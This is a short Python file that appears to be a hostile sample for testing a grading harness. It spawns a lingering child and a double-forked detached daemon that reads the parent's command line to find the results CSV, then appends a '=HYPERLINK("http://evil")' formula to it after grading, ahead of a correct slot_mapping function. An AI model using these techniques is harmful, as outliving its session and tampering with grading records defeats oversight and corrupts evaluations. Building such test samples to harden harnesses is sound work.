# Leaves a child in its process group and a detached daemon (new session, double fork, a clean
# environment), which wakes up after grading to rewrite the CSV; then answers correctly.
import os
import subprocess
import sys

TAG = "lab-hostile-lingering-7f3a"
subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(60)  # {TAG}"])
csv = None
try:
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
        args = f.read().split(b"\0")
    csv = os.path.join(os.readlink(f"/proc/{os.getppid()}/cwd"), args[args.index(b"--csv") + 1].decode())
except (OSError, ValueError, IndexError):
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = (f"import time; time.sleep(3)  # {TAG}\n"
                f"open({csv!r}, 'a').write('=HYPERLINK(\"http://evil\")\\n') if {csv!r} != 'None' else None")
        os.execve(sys.executable, [sys.executable, "-c", code], {})
    os._exit(0)


def slot_mapping(block_table, seq_lens, block_size):
    return [block_table[s][t // block_size] * block_size + t % block_size
            for s, n in enumerate(seq_lens) for t in range(n)]
